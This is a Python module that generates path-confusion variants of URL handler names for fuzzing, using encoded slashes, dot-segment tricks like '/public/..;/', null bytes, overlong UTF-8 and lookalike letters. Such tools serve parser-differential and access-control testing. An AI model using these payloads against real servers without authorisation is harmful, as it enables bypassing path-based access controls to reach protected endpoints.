"""Ways to spell a path that some server reads as one of the handlers' names, and others as something else."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

SLASHES = [
    "//",
    "///",
    "/./",
    "/.//",
    "\\",
    "/\\",
    "\\/",
    "%2f",
    "%5c",
    "%2F%2f",
    "/%2e/",
    "/;/",
    "/;a=b/",
    "%252f",
    "/%20/",
]
HEADS = [
    *[
        "//",
        "///",
        "////",
        "/\\",
        "\\/",
        "\\\\",
        "/%5c",
        "/%2f",
        "%2f/",
        "/%2f%2f",
        "/%5c%5C",
        "%5c",
        "/%252f",
        "/.//",
        "/;//",
    ],
    *[
        "//h/",
        "///h\\",
        "//h\\",
        "/\\h/",
        "//a%2fb/",
        "//h%5c%5cx;@x/",
        "//a:b@h:80/",
        "///",
        "//public/",
        "//public;/",
    ],
    *["/public//", "/public;/", "/public/..;/", "/public/%2e%2e/", "/public/.%2e/", "/public/..%2f", "/public%2f..%2f"],
    *[
        "/public/%252e%252e/",
        "/public%00/",
        "/public%2500/",
        "/;x/",
        "/;a%2fb/",
        "/.;x/",
        "/%2e;x/",
        "/%3b/",
        "/public/x;/../",
    ],
    *[
        "/http:/h/",
        "/http://h/",
        "http://h/",
        "/%68ttp://h/",
        "/*/",
        "/~/",
        "/:80/",
        "/@h/",
        "/%u002f",
        "/%c0%af",
        "/%ef%bc%8f",
    ],
    *[
        "/%ef%bc%8f%ef%bc%8f/",
        "/public/x%3f/../../",
        "/public/%2e./",
        "/public\\..\\",
        "/a%2f%2e%2e/",
        "/%2e%2e%2fpublic/",
    ],
]
TAILS = [
    *[
        "",
        "/",
        "//",
        "/.",
        "/./",
        ".",
        "..",
        "%20",
        "+",
        "%09",
        "%a0",
        "%c2%a0",
        "%e3%80%80",
        "%00",
        "%2500",
        "%2520",
        "%252e",
    ],
    *[
        ";",
        ";x",
        ";x=/y",
        ";a%2fb",
        ";/",
        "%3b",
        "%3bx",
        "%3f",
        "%3fx=1",
        "%253fx",
        "%23",
        "%23x",
        "%2523",
        "%2f",
        "%2f%2f",
    ],
    *[
        "%5c",
        "\\",
        "%252f",
        "/%2e",
        "/%20",
        ".html",
        ".json",
        "?",
        "?/admin",
        "?:80/",
        "?@h/",
        "?x=//h/",
        "%0a",
        "%0d%0a",
        "~",
    ],
    *[
        "/x",
        "/;x",
        "%u002f",
        "%",
        "%2",
        "%zz",
        "*",
        "|",
        "%7c",
        ":80",
        ":80/",
        ":",
        "@",
        "@h",
        "&",
        "%26",
        "=",
        "'",
        "!",
    ],
]
# The same letter to somebody: Kelvin sign, long s, dotless i, full width.
LOOKALIKES = {"s": ["%c5%bf"], "k": ["%e2%84%aa"], "i": ["%c4%b1"], "a": ["%ef%bd%81", "%c1%a1"], "x": ["%ef%bd%98"]}


def spellings(names: list[str], count: int, seed: int) -> Iterator[str]:
    """Yield `count` different targets, every simple one first, then mixtures."""
    random, seen = Random(seed), set[str]()
    for target in (*_simple(names), *(_mixture(random, names) for _ in range(20 * count))):
        if target not in seen and target.isascii() and target.isprintable() and not set(target) & set(' #"<>'):
            seen.add(target)
            yield target
            if len(seen) == count:
                return


def _simple(names: list[str]) -> Iterator[str]:
    """Each name with one thing changed."""
    for name in names:
        yield name
        for tail in TAILS:
            yield name + tail
        for head in HEADS:
            yield head + name[1:]
            yield head + name[1:] + "/"
        for slash in SLASHES:
            yield name.replace("/", slash)
            yield "/" + name[1:].replace("/", slash)
        for encode in (_escaped, _doubly_escaped, str.upper, str.title):
            yield "/" + encode(name[1:])
            yield "/" + encode(name[1:2]) + name[2:]


def _mixture(random: Random, names: list[str]) -> str:
    name = random.choice(names)
    head = random.choice(["/", "/", *HEADS])
    if random.random() < 0.2:
        head += random.choice(HEADS)[1:]
    out = [_letter(random, letter) for letter in name[1:]]
    tail = random.choice(TAILS) if random.random() < 0.5 else ""
    if random.random() < 0.1:
        tail += random.choice(TAILS)
    return head + "".join(out) + tail


def _letter(random: Random, letter: str) -> str:
    chance = random.random()
    if letter == "/":
        return random.choice(SLASHES) if chance < 0.3 else letter
    if chance < 0.9:
        return letter
    ways = [_escaped(letter), _doubly_escaped(letter), letter.upper(), letter + ";x", *LOOKALIKES.get(letter, [])]
    return random.choice(ways)


def _escaped(text: str) -> str:
    return "".join(f"%{ord(letter):02x}" for letter in text)


def _doubly_escaped(text: str) -> str:
    return _escaped(text).replace("%", "%25")
